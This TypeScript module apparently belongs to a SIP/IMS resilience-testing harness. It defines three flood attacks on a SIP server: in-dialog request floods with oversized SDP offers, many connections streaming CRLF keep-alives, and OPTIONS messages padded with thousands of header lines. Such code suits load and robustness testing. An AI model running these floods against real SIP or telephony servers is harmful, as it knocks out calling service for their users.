import { domain } from '../users';
import { ports, type Attack, type Target } from './attack';
import { crowd } from './crowd';
import { audioOffer, LeagueUe, msrpOffer } from './league-ue';
import { pace } from './pace';

/** In turn, all that a UE may send inside its call; offers have as many lines as may be, or more. */
const inCall = [
  { method: 'INFO' },
  { method: 'INVITE', lines: audioOffer },
  { method: 'PRACK', headers: ['RAck: 1 1 INVITE'] },
  { method: 'ACK' },
  { method: 'UPDATE', lines: msrpOffer },
  { method: 'CANCEL' },
  { method: 'MESSAGE' },
  { method: 'UPDATE', lines: audioOffer },
  { method: 'INVITE', lines: msrpOffer },
  { method: 'OPTIONS' },
] as const;

async function callAndFlood(target: Target, source: string): Promise<void> {
  const ue = await LeagueUe.register(target, source);
  const { answer } = await ue.call(source);
  let sent = 0;
  await pace(target, 2000, () => {
    if (!ue.sip.isOpen) return false;
    const parts = inCall[sent++ % inCall.length] ?? inCall[0];
    const body = 'lines' in parts ? parts.lines(source, 20) : '';
    const type = body === '' ? [] : ['Content-Type: application/sdp'];
    const headers = [...('headers' in parts ? parts.headers : []), ...type];
    ue.sip.inDialog(answer, { method: parts.method, cseq: sent + 1, headers, body });
    return true;
  });
  ue.sip.socket.destroy();
}

/** What one UE sends inside a call of its own. */
const inCallFlood: Attack = {
  from: 'strangers',
  run: (target) => callAndFlood(target, target.sources[0] ?? ''),
};

/** Connections of one place that bring a piece all the time. */
function pieces(size: number, every: number, piece: Buffer): Attack {
  return {
    from: 'strangers',
    run: async (target) => {
      const one = { ...target, sources: target.sources.slice(0, 1) };
      await crowd(one, {
        ...{ port: ports.sip, size, perSecond: 200 },
        opened: (socket) => {
          const timer = setInterval(() => socket.writableLength < 65_536 && socket.write(piece), every);
          socket.on('close', () => clearInterval(timer));
        },
      });
    },
  };
}

/** No more bytes than may be, in as many header lines as these allow for. */
function longMessage(): Buffer {
  const lines = Array.from({ length: 8000 }, (_, i) => `X: ${i % 10}`);
  const head = [`OPTIONS sip:${domain} SIP/2.0`, 'Via: SIP/2.0/TCP 192.0.2.9;branch=z9hG4bKx', ...lines];
  return Buffer.from(`${[...head, 'Content-Length: 0'].join('\r\n')}\r\n\r\n`);
}

export const floods = {
  'in-call-flood': inCallFlood,
  'keep-alives': pieces(100, 1, Buffer.from('\r\n\r\n')),
  'long-messages': pieces(10, 20, longMessage()),
} satisfies Record<string, Attack>;
